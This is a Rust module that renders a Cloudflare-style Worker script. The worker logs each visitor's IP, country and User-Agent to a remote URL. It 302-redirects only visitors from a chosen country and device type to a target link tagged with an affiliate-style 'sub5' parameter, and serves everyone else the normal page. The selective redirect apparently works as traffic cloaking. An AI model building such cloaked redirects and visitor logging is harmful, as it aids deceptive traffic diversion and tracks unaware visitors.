//! Worker script rendering.
//!
//! A single template covers both routing types; the device clause is only
//! emitted when the rule carries a device set. Rendering is pure.

use serde_json::Value;

use super::routing::{RoutingRule, MOBILE_UA_PATTERNS, TABLET_UA_PATTERNS};

/// Entry module name announced in the upload metadata.
pub const MAIN_MODULE: &str = "main.js";

const TEMPLATE: &str = r#"export default {
  async fetch(request, env, ctx) {
    const targetBase = {{TARGET_LINK}};
    const logUrl = {{LOG_URL}};
    const url = new URL(request.url);

    if (url.pathname.includes('.') || url.search.includes('url=') || url.search.includes('_rsc')) {
      return fetch(request);
    }

    const domain = url.hostname;
    const country = request.cf ? request.cf.country : "Unknown";
    const userAgent = request.headers.get('User-Agent') || "";
    const clientIP = request.headers.get('CF-Connecting-IP');
{{DEVICE_CLASSIFIER}}
    const isTargetGeo = country === {{GEO}};

    let reason = "MATCHED";
    if (!isTargetGeo) reason = "BAD_GEO_" + country;
{{DEVICE_REASON}}
    const matched = reason === "MATCHED";

    const logData = {
      timestamp: new Date().toISOString(),
      domain: domain,
      status: matched ? "1" : "0",
      ip: clientIP,
      country: country,
      userAgent: userAgent,
      reason: reason,
{{DEVICE_LOG_FIELDS}}      queryString: url.search
    };

    ctx.waitUntil(
      fetch(logUrl, {
        method: 'POST',
        headers: { 'Content-Type': 'application/json' },
        body: JSON.stringify(logData),
      }).catch(() => {})
    );

    if (!matched) {
      return fetch(request);
    }

    const separator = targetBase.includes('?') ? '&' : '?';
    const finalUrl = `${targetBase}${separator}sub5=${encodeURIComponent(domain)}`;
    return Response.redirect(finalUrl, 302);
  },
};
"#;

/// Renders the worker module source for a routing rule.
pub fn render_worker(rule: &RoutingRule) -> String {
    let (classifier, reason, log_fields) = match &rule.devices {
        Some(devices) => {
            let allowed = devices
                .iter()
                .map(|d| js_string(d.as_str()))
                .collect::<Vec<_>>()
                .join(", ");
            (
                device_classifier(&allowed),
                "    else if (!allowedDevices.includes(deviceType)) reason = \"BAD_DEVICE_\" + deviceType;\n"
                    .to_string(),
                "      deviceType: deviceType,\n      allowedDevices: allowedDevices.toString(),\n"
                    .to_string(),
            )
        }
        None => (String::new(), String::new(), String::new()),
    };

    TEMPLATE
        .replace("{{TARGET_LINK}}", &js_string(&rule.target_link))
        .replace("{{LOG_URL}}", &js_string(&rule.visit_log_url))
        .replace("{{GEO}}", &js_string(&rule.geo))
        .replace("{{DEVICE_CLASSIFIER}}\n", &classifier)
        .replace("{{DEVICE_REASON}}\n", &reason)
        .replace("{{DEVICE_LOG_FIELDS}}", &log_fields)
}

fn device_classifier(allowed: &str) -> String {
    format!(
        "\n    let deviceType = \"desktop\";\n    \
         const isMobileUA = /{mobile}/i.test(userAgent);\n    \
         const isTabletUA = /{tablet}/i.test(userAgent) && !/Mobile/i.test(userAgent);\n\n    \
         if (isTabletUA) deviceType = \"tablet\";\n    \
         else if (isMobileUA) deviceType = \"mobile\";\n\n    \
         const allowedDevices = [{allowed}];\n",
        mobile = js_alternation(&MOBILE_UA_PATTERNS),
        tablet = js_alternation(&TABLET_UA_PATTERNS),
        allowed = allowed,
    )
}

/// Quotes a value as a JavaScript string literal.
fn js_string(value: &str) -> String {
    Value::String(value.to_string()).to_string()
}

/// Regex alternation of literal patterns; spaces are literal in JS regexes.
fn js_alternation(patterns: &[&str]) -> String {
    patterns.join("|")
}
